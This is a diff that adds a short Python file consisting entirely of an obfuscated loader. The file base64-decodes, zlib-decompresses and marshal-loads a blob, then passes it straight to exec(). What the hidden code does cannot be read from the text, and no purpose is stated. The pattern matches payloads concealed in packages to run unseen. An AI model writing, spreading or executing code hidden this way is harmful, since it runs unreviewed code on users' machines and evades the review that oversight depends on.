@@ -0,0 +1,5 @@
+import base64
+import marshal
+import zlib
+
+exec(marshal.loads(zlib.decompress(base64.b64decode("eJxLZkACTFD6swaQmM6QwpDCmMMQxZDC1MIQxcjEkMq4DCi+Gq6cESgfzKDJ/BLE8UtGNokZij/rgU0qYURIZcHZKYzLgOzVcD7QPAageUx+VUrJpUU5CrrFChklJQVW+vompnqGxnpGRuZ6hgb6FQo1CsUZmky3mPKLb7EVVxaXpOauZPgMMuEXp01BYmVOfmKK3S22pNTE5Py8Ig6oU4olgUQDw10WthbPC3xGF1mMr7AYX4ChIjagrCZTEUglWEsRK4gAiRaxg0zmsMnNTynNSbUr4gQ7FWggyG8fmBkZGW8wcDaA4QcWRkaTDwxwgo2Bkb2BrZGjhaMBDMHmAQAhcUSe"))))